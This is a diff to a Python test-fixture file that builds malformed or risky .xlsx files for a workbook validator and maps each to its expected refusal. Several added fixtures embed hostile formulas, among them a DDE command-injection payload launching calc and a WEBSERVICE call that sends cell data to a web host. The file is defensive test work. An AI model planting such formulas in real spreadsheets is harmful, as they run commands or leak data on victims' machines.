@@ -81,7 +81,10 @@ def with_sheets(parts: Parts, count: int, part: str) -> Parts:
 
 
 from_bytes("empty.xlsx", Refusal.EMPTY, lambda good: b"")
-from_bytes("text.xlsx", Refusal.NOT_A_WORKBOOK, lambda good: "所属,値\n".encode())
+from_bytes("text.xlsx", Refusal.OTHER_KIND, lambda good: "所属,値\n".encode())
+from_bytes("text-of-old.xlsx", Refusal.OTHER_KIND, lambda good: "所属,値\n".encode("cp932") * 500)
+from_bytes("bytes.xlsx", Refusal.NOT_A_WORKBOOK, lambda good: b"\x01\x02\xff" * 500)
+from_bytes("program.xlsx", Refusal.OTHER_KIND, lambda good: b"MZ" + bytes(500))
 from_bytes("truncated.xlsx", Refusal.TRUNCATED, lambda good: good[:9000])
 from_bytes("tail-lost.xlsx", Refusal.TRUNCATED, lambda good: good[:-10])
 from_bytes("flipped.xlsx", Refusal.TRUNCATED, lambda good: good[:3000] + bytes(200) + good[3200:])
@@ -110,6 +113,32 @@ from_parts(
     Refusal.MACROS,
     lambda parts: changed(parts, TYPES, lambda xml: xml.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")),
 )
+for _name, _formula in {
+    "link-escaped": b"&#91;1]Sheet1!A1",
+    "program": b"cmd|'/c calc'!A0",
+    "program-escaped": b"Excel&#124;book!R1C1",
+    "web": b'_xlfn.WEBSERVICE("https://example.com/"&amp;A1)',
+    "server": b'RTD("a.b",,"c")',
+}.items():
+    from_parts(
+        f"{_name}-in-a-formula.xlsx",
+        Refusal.EXTERNAL_LINKS,
+        lambda parts, formula=_formula: with_rows(parts, LINKED.replace(b"[1]Sheet1!$A$1*2", formula)),
+    )
+from_parts(
+    "one-row-twice.xlsx",
+    Refusal.NOT_A_WORKBOOK,
+    lambda parts: with_rows(
+        parts, b'<row r="60"><c r="H60"><v>1</v></c></row><row r="60"><c r="I60"><v>1</v></c></row>'
+    ),
+)
+for _what, _name in (("styles", b"</styleSheet>"), ("strings", b"</sst>")):
+    for _odd, _bytes in (("rubbish", b"<"), ("nul", b"\0")):
+        from_parts(
+            f"{_what}-with-{_odd}.xlsx",
+            Refusal.NOT_A_WORKBOOK,
+            lambda parts, end=_name, odd=_bytes: {name: xml.replace(end, end + odd) for name, xml in parts.items()},
+        )
 from_parts("links.xlsx", Refusal.EXTERNAL_LINKS, lambda parts: with_rows(parts, LINKED))
 from_parts("link-by-path.xlsx", Refusal.EXTERNAL_LINKS, lambda parts: with_rows(parts, LINKED_BY_PATH))
 from_parts(
@@ -218,7 +247,7 @@ from_parts(
 )
 from_parts(
     "utf-7.xlsx",
-    Refusal.DECLARATION,
+    Refusal.NOT_A_WORKBOOK,
     lambda parts: changed(parts, SHEET, lambda xml: b"<?xml version='1.0' encoding='UTF-7'?>" + xml),
 )
 from_parts(
